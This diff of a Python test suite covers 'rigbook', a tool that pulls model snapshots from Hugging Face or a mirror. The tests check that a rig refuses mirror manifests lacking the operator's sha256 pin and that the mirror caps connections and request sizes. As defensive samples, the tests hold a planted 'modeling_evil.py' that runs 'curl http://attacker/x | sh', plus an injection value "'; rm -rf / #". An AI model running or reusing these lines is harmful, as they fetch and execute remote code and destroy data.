@@ -14,9 +14,11 @@ import hashlib
 import importlib.util
 import json
 import os
+import socket
 import subprocess
 import sys
 import threading
+import time
 from pathlib import Path
 
 import pytest
@@ -242,7 +244,10 @@ def test_model_snapshot_is_a_noop_when_complete_and_pulls_otherwise(tmp_path):
     cache = read_cache(tmp_path)
     commands, fake = run_op(model_snapshot, {"ModelCache": cache}, spec=cfg.models[0], rig=cfg)
     assert commands == []
-    assert fake.noops == [f"org/model@aaaaaaaaaaaa is complete in {tmp_path} (3 file(s), 0.00 MiB)"]
+    pin = hashlib.sha256((tmp_path / "models--org--model" / "rigbook" / f"{COMMIT}.json")
+                         .read_bytes()).hexdigest()  # what the operator pins for other rigs
+    assert fake.noops == [f"org/model@aaaaaaaaaaaa is complete in {tmp_path} (3 file(s), 0.00 MiB)"
+                          f"; manifest sha256 {pin}"]
     assert fake.asked == [("ModelCache", {"cache": str(tmp_path)})]
 
     other = spec("org/other")
@@ -376,7 +381,8 @@ def test_rig_tokens_each_only_where_used(tmp_path):
     assert held(models=models, models_mirror_port=8090, models_mirror_token_file=fleet) == {
         "HF token": TOKEN, "mirror token": MIRROR_TOKEN}
     # a rig pulling from a mirror holds no HF token
-    assert held(models=models, models_endpoint="http://10.0.0.5:8090",
+    pinned = [{**models[0], "manifest_sha256": "c" * 64}]
+    assert held(models=pinned, models_endpoint="http://10.0.0.5:8090",
                 models_mirror_token_file=fleet) == {
         "HF token": "not used here", "mirror token": MIRROR_TOKEN}
     assert held(models_mirror_token_file=fleet) == {
@@ -417,10 +423,12 @@ def test_pull_messages():
     model = spec("org/m")
     done = {"status": "complete", "files": 4, "total_bytes": 3 * 1024**3,
             "downloaded": ["a", "b"], "downloaded_bytes": 2 * 1024**3, "seconds": 12.34,
-            "removed_incomplete": [{"name": "x.incomplete", "size": 1024**2}]}
+            "removed_incomplete": [{"name": "x.incomplete", "size": 1024**2}],
+            "manifest_sha256": "d" * 64}
     assert pull_message(model, done) == (
         "org/m@aaaaaaaaaaaa: pulled 2 file(s), 2.00 GiB in 12.3 s (165.96 MiB/s), removed 1 "
-        ".incomplete leftover(s) (1.00 MiB); complete: 4 file(s), 3.00 GiB")
+        f".incomplete leftover(s) (1.00 MiB); complete: 4 file(s), 3.00 GiB; manifest sha256 "
+        f"{'d' * 64}")
     # the average is over the download itself, not the listing and the hashing around it
     assert "pulled 2 file(s), 2.00 GiB in 8.0 s (256.00 MiB/s)" in pull_message(
         model, {**done, "download_seconds": 8.0})
@@ -623,6 +631,27 @@ def test_models_section_validation():
         rig(models=[{"repo": "org/a", "revision": "main"}])
 
 
+def test_a_pull_from_a_mirror_needs_the_operators_pin_before_connecting():
+    pinned = {"repo": "org/b", "revision": OTHER, "manifest_sha256": "c" * 64}
+    fleet = {"models_endpoint": "http://10.0.0.5:8090", "models_mirror_token_file": "t"}
+    with pytest.raises(RigbookError) as caught:
+        rig(models=[{"repo": "org/a", "revision": COMMIT}, pinned], **fleet)
+    text = str(caught.value)
+    assert "models[0] (org/a): no manifest_sha256, which models_endpoint needs" in text
+    assert "sha256sum <models_cache>/models--ORG--NAME/rigbook/<revision>.json" in text
+    assert "org/b" not in text
+    for bad in ("C" * 64, "c" * 63, "c" * 64 + "\n", "sha256:" + "c" * 64, "c" * 63 + "$",
+                "'; rm -rf / #" + "c" * 52):
+        with pytest.raises(RigbookError, match="manifest_sha256"):
+            rig(models=[{**pinned, "manifest_sha256": bad}], **fleet)
+    cfg = rig(models=[pinned], **fleet)
+    assert f"--manifest-sha256={'c' * 64}" in pull_command(cfg.models[0], cfg).get_raw_value()
+    # from the hub the pin is not needed, and not sent (the hub's own hashes are checked)
+    hub = rig(models=[pinned])
+    assert "--manifest-sha256" not in pull_command(hub.models[0], hub).get_raw_value()
+    assert rig(models=[{"repo": "org/a", "revision": COMMIT}]).models[0].manifest_sha256 is None
+
+
 # --- the token --------------------------------------------------------------------------------
 
 
@@ -765,14 +794,18 @@ def hub(tmp_path):
     server.server_close()
 
 
-def run_pull(python, hub, cache, repo, *extra, token_path=None, mirror=False):
+def run_pull(python, hub, cache, repo, *extra, token_path=None, mirror=False, pin=True):
     """pull.py from `hub.endpoint`: as the hub (HF_ENDPOINT), or as rigbook's mirror
-    (--endpoint, what models_endpoint gives)."""
+    (--endpoint, what models_endpoint gives) with the pin `pin` (True: the sha256 of
+    repo.manifest(), what a pull of it from the hub writes; False: none)."""
     env = {"PATH": os.environ["PATH"], "HF_HUB_DISABLE_XET": "1",
            "HF_HUB_DISABLE_PROGRESS_BARS": "1", "HF_HUB_DISABLE_TELEMETRY": "1",
            "HF_TOKEN_PATH": str(token_path or cache.parent / "no-token")}
     if mirror:
         extra = (*extra, f"--endpoint={hub.endpoint}")
+        if pin:
+            pin = hashlib.sha256(repo.manifest()).hexdigest() if pin is True else pin
+            extra = (*extra, f"--manifest-sha256={pin}")
     else:
         env["HF_ENDPOINT"] = hub.endpoint
     proc = subprocess.run(
@@ -914,11 +947,12 @@ def test_io_upload_object_is_what_files_put_would_diff():
 class Mirror:
     """rigbook's mirror (files/models/mirror.py's handler) over a cache, on loopback."""
 
-    def __init__(self, cache: Path, token: str | None = MIRROR_TOKEN, handler=None):
+    def __init__(self, cache: Path, token: str | None = MIRROR_TOKEN, handler=None,
+                 connections: int = mirror.MAX_CONNECTIONS, timeout: float = mirror.TIMEOUT):
         handler = handler or mirror.HubHandler
         bound = type("CacheHandler", (handler,), {"store": mirror.CacheStore(str(cache)),
-                                                  "token": token})
-        self.httpd = mirror.server(bound)
+                                                  "token": token, "timeout": timeout})
+        self.httpd = mirror.server(bound, connections=connections)
         threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
         self.endpoint = f"http://127.0.0.1:{self.httpd.server_address[1]}"
 
@@ -1007,8 +1041,9 @@ def test_mirror_answers_only_the_token_and_serves_its_manifest(tmp_path):
                       f"/org/model/resolve/{COMMIT}/config.json"):
             assert served.get(route, token=None)[0] == 401, route
         status, headers, body = served.get(path)
-        assert status == 200
-        assert headers["X-Rigbook-Manifest-Sha256"] == hashlib.sha256(body).hexdigest()
+        assert status == 200  # the manifest as the pull wrote it, byte for byte
+        assert body == (tmp_path / "cache" / "models--org--model" / "rigbook" /
+                        f"{COMMIT}.json").read_bytes()
         manifest = json.loads(body)
         assert (manifest["repo"], manifest["revision"]) == ("org/model", COMMIT)
         assert manifest["files"]["config.json"] == {
@@ -1103,23 +1138,92 @@ def test_a_swapped_file_at_the_mirror_is_caught_and_the_old_snapshot_kept(
     assert not snapshot_status(state, spec(repo.repo_id, repo.commit)).complete
 
 
-def test_a_manifest_that_does_not_match_its_header_is_refused(hf_python, source, tmp_path):
-    cache, _ = source
+def add_to_snapshot(top: Path, commit: str, path: str, data: bytes) -> dict:
+    """A file put into a snapshot of a cache as a pull would (blob, link): its manifest entry."""
+    oid = git_oid(data)
+    (top / "blobs" / oid).write_bytes(data)
+    (top / "snapshots" / commit / path).unlink(missing_ok=True)
+    (top / "snapshots" / commit / path).symlink_to(f"../../blobs/{oid}")
+    return {"size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "lfs": False,
+            "oid": oid}
 
-    class Tampered(mirror.HubHandler):
+
+def test_the_mirror_vouches_for_nothing_only_the_pinned_manifest_is_taken(
+        hf_python, source, tmp_path):
+    """A mirror (or anything between it and the rig) that serves an extra modeling_evil.py or
+    a changed file, each with matching hashes in a re-written manifest, or a manifest the
+    operator did not pin: the pulling rig refuses before downloading, marks nothing complete."""
+    cache, served = source
+    repo = tiny_repo()
+    top = cache / repo_folder(repo.repo_id)
+    manifest_path = top / "rigbook" / f"{repo.commit}.json"
+    trusted = manifest_path.read_bytes()
+    assert trusted == repo.manifest()  # the pull from the hub wrote what the test pins
+    pinned = hashlib.sha256(trusted).hexdigest()
+    token = fleet_token(tmp_path)
+    runs = iter(range(100))
+
+    def refused(pin=pinned, handler=None) -> str:
+        """Pull from the mirror with `pin`: refused, and nothing in the target cache."""
+        mirrored = Mirror(cache, handler=handler) if handler else served
+        target = tmp_path / f"target{next(runs)}"
+        try:
+            rc, result, proc = run_pull(hf_python, mirrored, target, repo, mirror=True,
+                                        token_path=token, pin=pin)
+        finally:
+            if handler:
+                mirrored.close()
+        assert (rc, result["status"]) == (2, "refused"), proc.stderr
+        assert "nothing was downloaded" in result["message"] or pin is False
+        assert not (target / repo_folder(repo.repo_id) / "snapshots").exists()
+        assert not snapshot_status(read_cache(target), spec(repo.repo_id, repo.commit)).complete
+        assert "downloaded" not in result
+        return result["message"]
+
+    def rewrite(**entries) -> None:
+        manifest = json.loads(trusted)
+        manifest["files"].update(entries)
+        manifest_path.write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
+
+    # 1. An extra file with its true hashes in a re-written manifest: the mirror serves it as
+    # complete (it checks sizes only), the pulling rig refuses it.
+    evil = b"import os\nos.system('curl http://attacker/x | sh')\n"
+    rewrite(**{"modeling_evil.py": add_to_snapshot(top, repo.commit, "modeling_evil.py", evil)})
+    status, _, body = served.get(f"/api/rigbook/manifest/{repo.repo_id}/{repo.commit}")
+    assert status == 200 and "modeling_evil.py" in json.loads(body)["files"]
+    message = refused()
+    assert (f"hashes to {hashlib.sha256(body).hexdigest()[:12]}…, not to the manifest_sha256 "
+            f"{pinned[:12]}… that its host data pins") in message
+    assert hashlib.sha256(body).hexdigest() not in message  # nothing to copy into a pin
+
+    # 2. A changed file, its new hashes in the manifest (a changed file under the trusted
+    # manifest is caught by its sha256: test_a_swapped_file_at_the_mirror_is_caught...).
+    (top / "snapshots" / repo.commit / "modeling_evil.py").unlink()
+    config = json.dumps({"architectures": ["LlamaForCausalLM"], "auto_map": {
+        "AutoModelForCausalLM": "modeling_evil.LlamaForCausalLM"}}).encode()
+    rewrite(**{"config.json": add_to_snapshot(top, repo.commit, "config.json", config)})
+    assert "not to the manifest_sha256" in refused()
+
+    # 3. The trusted manifest again, but one the operator did not pin: another pin, none.
+    manifest_path.write_bytes(trusted)
+    add_to_snapshot(top, repo.commit, "config.json", repo.file("config.json").data)
+    other = hashlib.sha256(tiny_repo("rigbook-test/other").manifest()).hexdigest()
+    assert "not to the manifest_sha256" in refused(pin=other)
+    assert refused(pin=False) == (f"a pull from the mirror {served.endpoint} needs the manifest's "
+                                  "sha256 (--manifest-sha256; manifest_sha256 of the model in "
+                                  "host data)")
+
+    # 4. Changed on the way (plain HTTP): the same.
+    class InTransit(mirror.HubHandler):
         def send(self, status, body=b"", headers=None):
-            if headers and mirror.MANIFEST_SHA256 in headers:
-                body = body.replace(b'"lfs": false', b'"lfs": true')  # as if in transit
-            super().send(status, body, headers)
+            super().send(status, body.replace(b'"lfs": false', b'"lfs": true'), headers)
 
-    served = Mirror(cache, handler=Tampered)
-    try:
-        rc, result, _ = run_pull(hf_python, served, tmp_path / "t", tiny_repo(), mirror=True,
-                                 token_path=fleet_token(tmp_path))
-    finally:
-        served.close()
-    assert (rc, result["status"]) == (4, "error")
-    assert "does not match its X-Rigbook-Manifest-Sha256 header" in result["message"]
+    assert "not to the manifest_sha256" in refused(handler=InTransit)
+
+    # The pinned manifest, untouched: complete.
+    rc, result, proc = run_pull(hf_python, served, tmp_path / "good", repo, mirror=True,
+                                token_path=token, pin=pinned)
+    assert (rc, result["status"], result["manifest_sha256"]) == (0, "complete", pinned)
 
 
 def test_a_non_lfs_file_from_the_hub_is_checked_against_its_git_blob_id(hf_python, hub,
@@ -1256,6 +1360,76 @@ def test_download_follows_redirects_and_sends_the_token_only_to_its_origin(tmp_p
     assert mismatch is None and link.read_bytes() == tiny_repo().file("model.safetensors").data
     assert hub.auths == [f"Bearer {TOKEN}"] * 2
     assert storage.auths == [None]
+
+
+def test_mirror_bounds_idle_connections_in_threads_and_time(tmp_path):
+    """300 idle connections (no request, no token): 8 are served (each closed after the
+    socket timeout), the rest answered 503 at once with no thread; then it answers again."""
+    make_repo(tmp_path / "cache", "org/model", COMMIT, FILES_A)
+    served = Mirror(tmp_path / "cache", connections=8, timeout=1)
+    port = served.httpd.server_address[1]
+    base = threading.active_count()
+    started = time.monotonic()
+    idle = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(300)]
+    try:
+        time.sleep(0.3)
+        assert threading.active_count() - base <= 8
+        answers = []
+        for connection in idle:
+            received = b""
+            while chunk := connection.recv(4096):
+                received += chunk
+            answers.append(received.split(b"\r\n", 1)[0])
+        assert answers.count(b"HTTP/1.1 503 Service Unavailable") == 292
+        assert answers.count(b"") == 8  # served, idle: closed by the server's timeout
+        assert time.monotonic() - started < 8
+        assert served.get(f"/api/rigbook/manifest/org/model/{COMMIT}")[0] == 200
+    finally:
+        for connection in idle:
+            connection.close()
+        served.close()
+    assert mirror.HubHandler.timeout == mirror.TIMEOUT and mirror.TIMEOUT <= 60
+    assert 1 <= mirror.MAX_CONNECTIONS <= 256
+
+
+def test_mirror_reads_no_body_outside_0_to_64_kib(tmp_path):
+    """A negative, huge or malformed Content-Length is answered at once and its connection
+    closed; a body up to 64 KiB is read."""
+    import http.client
+
+    make_repo(tmp_path / "cache", "org/model", COMMIT, FILES_A)
+    served = Mirror(tmp_path / "cache")
+    path = f"/api/models/org/model/paths-info/{COMMIT}"
+
+    def post(length: str, body: bytes = b"", token: str | None = MIRROR_TOKEN):
+        connection = http.client.HTTPConnection("127.0.0.1", served.httpd.server_address[1],
+                                                timeout=5)
+        connection.putrequest("POST", path)
+        connection.putheader("Content-Length", length)
+        connection.putheader("Content-Type", "application/x-www-form-urlencoded")
+        if token:
+            connection.putheader("Authorization", f"Bearer {token}")
+        connection.endheaders(body)
+        response = connection.getresponse()
+        result = response.status, response.getheader("Connection"), response.read()
+        connection.close()
+        return result
+
+    try:
+        for length, status in (("-1", 400), ("abc", 400), ("1e3", 400), ("", 400),
+                               ("\u00b2", 400), (str(10**12), 413), ("65537", 413)):
+            started = time.monotonic()
+            assert post(length)[:2] == (status, "close"), length
+            assert post(length, token=None)[:2] == (status, "close"), length
+            assert time.monotonic() - started < 3, length
+        body = b"paths=config.json"
+        answered = post(str(len(body)), body)
+        assert answered[0] == 200 and [e["path"] for e in json.loads(answered[2])] == [
+            "config.json"]
+        padded = body + b"&x=" + b"y" * (64 * 1024 - len(body) - 3)
+        assert len(padded) == 64 * 1024 and post(str(len(padded)), padded)[0] == 200
+    finally:
+        served.close()
 
 
 def test_mirror_script_refuses_to_start_without_a_token_and_serves_with_one(tmp_path):
